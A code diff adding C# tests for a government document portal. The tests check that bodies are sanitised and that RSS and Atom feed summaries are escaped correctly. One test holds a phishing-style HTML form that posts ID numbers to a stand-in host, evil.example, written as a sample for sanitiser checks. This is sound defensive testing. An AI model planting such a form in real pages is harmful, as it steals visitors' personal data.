@@ -244,6 +244,51 @@ public sealed class PortalDocumentsTests(ZwgkFactory factory) : IClassFixture<Zw
     }
 
     [Fact]
+    public async Task A_form_and_its_controls_in_a_body_do_not_survive_saving_or_rendering()
+    {
+        using var api = factory.WithToken(DemoAccounts.AdminToken);
+        const string formBody = "<p>正文</p><form action=\"https://evil.example/steal\" method=\"post\"><label>身份证号</label><input name=\"id\">"
+            + "<select name=\"s\"><option>一</option></select><textarea name=\"t\">留言</textarea><button formaction=\"https://evil.example/\">提交</button></form>"
+            + "<fieldset><legend>问卷</legend><input type=\"checkbox\"></fieldset>";
+        var id = await PublishAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", title: "表单测试", body: formBody));
+        var stored = await factory.DbAsync(db => db.Documents.Where(d => d.Id == id).Select(d => d.BodyHtml).SingleAsync());
+        Assert.DoesNotContain("<form", stored, StringComparison.OrdinalIgnoreCase);
+        Assert.DoesNotContain("evil.example", stored, StringComparison.Ordinal);
+        Assert.Contains("正文", stored);
+
+        // Put back raw, as by a route that skipped the save-time check: rendering sanitises again.
+        await factory.DbAsync(db => db.Database.ExecuteSqlAsync($"UPDATE \"Documents\" SET \"BodyHtml\" = {formBody} WHERE \"Id\" = {id}"));
+        var page = await Browser.ParseAsync(await factory.CreateClient().GetAsync($"/doc/{id}"));
+        var body = page.QuerySelector("[data-testid=doc-body]")!;
+        Assert.Empty(body.QuerySelectorAll(string.Join(", ", Zwgk.Web.Documents.DocumentHtml.FormTags)));
+        Assert.DoesNotContain("evil.example", body.InnerHtml, StringComparison.Ordinal);
+        Assert.Contains("正文", body.TextContent);
+    }
+
+    [Fact]
+    public async Task A_feed_description_is_the_summary_as_html_escaped_once_for_xml()
+    {
+        using var api = factory.WithToken(DemoAccounts.AdminToken);
+        const string summary = "低保标准 <b>提高</b> 到每月 800 元 & 以上";
+        var input = await InputAsync(YantaiOffice, "yantai", "zcwj", title: "摘要转义测试");
+        await PublishAsync(api, input with { Summary = summary });
+
+        var rss = await factory.CreateClient().GetStringAsync("/feed/zcwj");
+        var item = XDocument.Parse(rss).Descendants("item").Single(i => i.Element("title")!.Value == input.Title);
+        // What a reader gets after XML parsing is HTML; shown, that HTML reads exactly as the summary, with no <b> tag.
+        var description = item.Element("description")!.Value;
+        Assert.Equal(System.Net.WebUtility.HtmlEncode(summary), description);
+        Assert.Equal(summary, System.Net.WebUtility.HtmlDecode(description));
+        Assert.Contains("&amp;lt;b&amp;gt;", rss, StringComparison.Ordinal);
+
+        var atom = XDocument.Parse(await factory.CreateClient().GetStringAsync("/atom"));
+        var entry = atom.Descendants(Atom + "entry").Single(e => e.Element(Atom + "title")!.Value == input.Title);
+        var atomSummary = entry.Element(Atom + "summary")!;
+        Assert.Equal("html", atomSummary.Attribute("type")!.Value);
+        Assert.Equal(summary, System.Net.WebUtility.HtmlDecode(atomSummary.Value));
+    }
+
+    [Fact]
     public async Task Feeds_and_sitemaps_are_well_formed_with_absolute_urls()
     {
         var client = factory.CreateClient();
